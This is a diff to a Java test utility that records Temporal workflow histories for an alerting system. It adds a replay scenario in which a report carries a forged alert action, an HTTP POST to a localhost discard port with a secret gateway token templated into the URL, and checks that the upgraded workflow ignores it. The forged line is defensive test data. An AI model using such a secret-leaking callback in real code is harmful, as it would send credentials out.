@@ -4,9 +4,16 @@ import static org.awaitility.Awaitility.await;
 
 import ai.clawfactory.core.Names;
 import ai.clawfactory.core.WorkflowIds;
+import ai.clawfactory.core.definition.AlertAction;
+import ai.clawfactory.core.definition.AlertsDefinition;
+import ai.clawfactory.core.definition.HttpCallDefinition;
 import ai.clawfactory.testing.TemporalDevServer;
 import ai.clawfactory.worker.alert.AlertWorkflow;
 import ai.clawfactory.worker.alert.AlertWorkflowImpl;
+import ai.clawfactory.worker.alert.PinnedOwnAlertsVersion;
+import ai.clawfactory.worker.alert.ReportCheckActivitiesImpl;
+import ai.clawfactory.worker.alert.RunLookup;
+import ai.clawfactory.worker.alert.RunOutcome;
 import ai.clawfactory.worker.alert.RunReportActivitiesImpl;
 import ai.clawfactory.worker.config.DefinitionsConfig;
 import ai.clawfactory.worker.definition.DefinitionRegistry;
@@ -24,6 +31,8 @@ import io.temporal.serviceclient.WorkflowServiceStubs;
 import io.temporal.serviceclient.WorkflowServiceStubsOptions;
 import io.temporal.worker.Worker;
 import io.temporal.worker.WorkerFactory;
+import io.temporal.worker.WorkerFactoryOptions;
+import io.temporal.workflow.Workflow;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -42,6 +51,10 @@ import org.junit.jupiter.api.Test;
  *
  * <pre>mvn -pl worker -am test -Dtest=HistoryRecorder -Dsurefire.failIfNoSpecifiedTests=false \
  *     -Dhistories.out=$PWD/worker/src/test/resources/histories</pre>
+ *
+ * In a worktree without {@code .tools}, add {@code -Dtemporal.cli=/path/to/temporal} (the build
+ * sets that property, so it wins over {@code TEMPORAL_CLI}). To add one new shape without
+ * rewriting the others, record into a scratch folder and copy the new files over.
  */
 class HistoryRecorder {
 
@@ -109,12 +122,13 @@ class HistoryRecorder {
             WorkerFactory factory = WorkerFactory.newInstance(client);
             Worker worker = factory.newWorker(QUEUE);
             worker.registerWorkflowImplementationTypes(InterpreterWorkflow.class, AlertWorkflowImpl.class);
+            DefinitionRegistry registry = new DefinitionRegistry(new DefinitionsConfig(definitions.toString(), null));
             worker.registerActivitiesImplementations(
                     new Turns(),
                     new Http(),
                     new RunReportActivitiesImpl(() -> client, "http://localhost:8233"),
-                    new DefinitionActivitiesImpl(
-                            new DefinitionRegistry(new DefinitionsConfig(definitions.toString(), null)), () -> true));
+                    new DefinitionActivitiesImpl(registry, () -> true),
+                    reportChecks(registry, client));
             factory.start();
             try {
                 Recorder r = new Recorder(client, out);
@@ -132,11 +146,23 @@ class HistoryRecorder {
                 r.failed("alerted-failed", "ReplayAlerted", Map.of());
                 r.complete("alerted-ok", "ReplayAlerted", Map.of(), false);
                 r.alertWorkflow("ReplayAlerted", "alert-workflow-alert-then-recovery");
+                // Change "own-alerts": reports are checked against the worker's definitions, and a
+                // workflow started before the change checks every report it hears after the deploy.
+                r.alertWorkflowAcrossTheDeploy(
+                        registry,
+                        "ReplayAlerted",
+                        "alerted-failed",
+                        "alerted-ok",
+                        "before-own-alerts-then-a-report-after-the-deploy");
             } finally {
                 factory.shutdownNow();
                 stubs.shutdownNow();
             }
         }
+    }
+
+    static ReportCheckActivitiesImpl reportChecks(DefinitionRegistry registry, WorkflowClient client) {
+        return new ReportCheckActivitiesImpl(registry, () -> null, RunLookup.of(() -> client));
     }
 
     private record Recorder(WorkflowClient client, Path out) {
@@ -209,6 +235,82 @@ class HistoryRecorder {
                     dir.resolve(name + ".json"),
                     client.fetchHistory(WorkflowIds.alertsWorkflowId(type)).toJson(true) + "\n");
             client.newUntypedWorkflowStub(WorkflowIds.alertsWorkflowId(type)).terminate("recorded");
+        }
+
+        /**
+         * An alert workflow of the code before change own-alerts (emulated: its getVersion pinned to
+         * the default, so it issues that code's commands) alerts on a report carrying its block, as
+         * the interpreter's reports did then; after a deploy (a new worker on its task queue) it hears
+         * a report carrying a forged action, and sends the definition's recovery notice instead.
+         */
+        void alertWorkflowAcrossTheDeploy(
+                DefinitionRegistry registry, String type, String failedId, String okId, String name) throws Exception {
+            String queue = QUEUE + "-before-own-alerts";
+            WorkerFactory before = WorkerFactory.newInstance(
+                    client,
+                    WorkerFactoryOptions.newBuilder()
+                            .setWorkerInterceptors(new PinnedOwnAlertsVersion(Workflow.DEFAULT_VERSION))
+                            .build());
+            serve(before, queue, registry);
+            AlertWorkflow stub = client.newWorkflowStub(AlertWorkflow.class, WorkflowIds.alertsWorkflowId(type));
+            AlertsDefinition pinned = registry.find(type).alerts();
+            RunReportActivitiesImpl.signalWithStart(client, queue, report(failedId, type, false, pinned));
+            await().atMost(Duration.ofSeconds(60))
+                    .pollInterval(Duration.ofMillis(200))
+                    .until(() -> stub.alertState() != null && stub.alertState().alertsSent() == 1);
+            before.shutdown();
+            before.awaitTermination(30, java.util.concurrent.TimeUnit.SECONDS);
+
+            WorkerFactory after = WorkerFactory.newInstance(client);
+            serve(after, queue, registry);
+            try {
+                AlertAction forged = new AlertAction(
+                        null,
+                        new HttpCallDefinition(
+                                "POST", "http://127.0.0.1:9/leak-{{secret.gateway-token}}", Map.of(), "{}", List.of()));
+                RunReportActivitiesImpl.signalWithStart(
+                        client,
+                        queue,
+                        report(okId, type, true, new AlertsDefinition(1, Duration.ZERO, forged, forged, "forged")));
+                await().atMost(Duration.ofSeconds(60))
+                        .pollInterval(Duration.ofMillis(200))
+                        .until(() -> stub.alertState().recoveriesSent() == 1);
+                Path dir = Files.createDirectories(out.resolve("alerts"));
+                Files.writeString(
+                        dir.resolve(name + ".json"),
+                        client.fetchHistory(WorkflowIds.alertsWorkflowId(type)).toJson(true) + "\n");
+                client.newUntypedWorkflowStub(WorkflowIds.alertsWorkflowId(type))
+                        .terminate("recorded");
+            } finally {
+                after.shutdownNow();
+            }
+        }
+
+        private void serve(WorkerFactory factory, String queue, DefinitionRegistry registry) {
+            Worker w = factory.newWorker(queue);
+            w.registerWorkflowImplementationTypes(AlertWorkflowImpl.class);
+            w.registerActivitiesImplementations(new Turns(), new Http(), reportChecks(registry, client));
+            factory.start();
+        }
+
+        /** A report of a recorded run, with an alerts block as reports before change own-alerts had. */
+        private RunOutcome report(String workflowId, String type, boolean ok, AlertsDefinition alerts) {
+            return new RunOutcome(
+                    type,
+                    workflowId,
+                    client.newUntypedWorkflowStub(workflowId)
+                            .describe()
+                            .getExecution()
+                            .getRunId(),
+                    "2026-12-01T09:00:00Z",
+                    ok,
+                    ok ? null : "execute",
+                    ok ? null : "Step 'execute' of " + type + " failed after 1 attempt(s): gateway answered 400",
+                    ok ? 0 : 1,
+                    Map.of(),
+                    alerts,
+                    "http://localhost:8233/namespaces/default/workflows/" + workflowId,
+                    null);
         }
 
         void failed(String id, String type, Map<String, Object> input) throws Exception {
